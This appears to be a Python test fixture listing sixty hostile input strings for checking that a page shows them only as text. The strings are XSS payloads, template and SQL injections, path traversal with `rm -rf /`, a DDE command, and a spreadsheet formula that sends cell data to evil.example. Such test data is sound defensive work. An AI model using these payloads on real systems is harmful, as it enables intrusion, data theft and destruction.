"""Sixty texts that try to become code, markup, a formula or a path. A page may only show them, letter by letter.

Those that run anything call `alert` or set `window.hostile`; those that fetch anything ask `evil.example`.
"""

HOSTILE = [
    # Script and event handlers
    "<script>window.hostile=1</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt/x>window.hostile=1</sCrIpT >",
    "<img src=x onerror=window.hostile=1>",
    "<img src=https://evil.example/pixel.png>",
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=https://evil.example/x.js /></svg>",
    "<details open ontoggle=window.hostile=1>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.hostile=1>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>window.hostile=1</script>]]>",
    "<template><script>window.hostile=1</script></template>",
    "<a href='javascript:window.hostile=1' autofocus>click</a>",
    "<form action=https://evil.example/><button>Vote</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data='javascript:alert(1)'></object><embed src=https://evil.example/x.swf>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    # Out of an attribute, a script, a style, a JSON text
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='window.hostile=1",
    '"><script>window.hostile=1</script>',
    "</textarea><script>window.hostile=1</script>",
    "</title></style></pre><script>alert(1)</script>",
    '"}]</script><script>window.hostile=1</script>',
    '\\");window.hostile=1;//',
    "';window.hostile=1;//\n*/window.hostile=1;/*",
    "${window.hostile=1}`-window.hostile=1-`",
    "};window.hostile=1;var x={",
    '{"__proto__": {"hostile": 1}, "constructor": {"prototype": {"hostile": 1}}}',
    "\u2028window.hostile=1\u2029//",
    "</style><style>*{display:none;background:url(https://evil.example/x)}",
    "x:expression(alert(1));background:url('javascript:alert(1)')",
    "@import 'https://evil.example/x.css';",
    # Templates
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{constructor.constructor('window.hostile=1')()}}",
    "<%= system('id') %> #{7*7} @(7*7) {{{raw}}} [[${7*7}]]",
    "%s %n %x {0} {name!r} \\x3cscript\\x3ewindow.hostile=1\\x3c/script\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;img src=x onerror=alert(1)&#x3E;",
    # Markdown
    "[press here](javascript:window.hostile=1)",
    '![pixel](https://evil.example/pixel.png) ![x](x "onerror=alert(1)")',
    "<javascript:alert(1)> [a]: javascript:alert(1)\n[a]",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "```html\n<script>window.hostile=1</script>\n```\n`<img src=x onerror=alert(1)>`",
    "**" * 400 + "[" * 400 + "`" * 399 + "> " * 400 + "_" * 401,
    # Unicode
    "\u202e<script>alert(1)</script>\u202c \u2066reversed\u2069 \u200f\u200e",
    "nothing\x00after\x00<script>window.hostile=1</script>",
    "\x01\x02\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b31m",
    "\ufeff\u200b\u200d\u00ad\u2060zero width\ufffe\uffff",
    "Z" + "\u0300\u0316\u0334\u0489" * 200 + " piled up",
    "👩‍👩‍👧‍👦" * 200 + "🏳️‍🌈𝔘𝔫𝔦\U0010ffff ﷽﷽﷽",
    "＜script＞window.hostile=1＜/script＞ ʺonerror=alert(1)ʺ",
    "שלום <b onclick=alert(1)>עולם</b> مرحبا، 123 abc",
    # Spreadsheets, paths, shells, databases
    '=HYPERLINK("https://evil.example/?x="&A1, "press")',
    "@SUM(1+1)*cmd|' /C calc'!A0\t+1\r\n-1",
    "../../../../etc/passwd\\..\\..\\windows\\win.ini; rm -rf / $(id) `id`",
    '\'); DROP TABLE votes; -- " OR "1"="1',
]

assert len(HOSTILE) == len(set(HOSTILE)) == 60
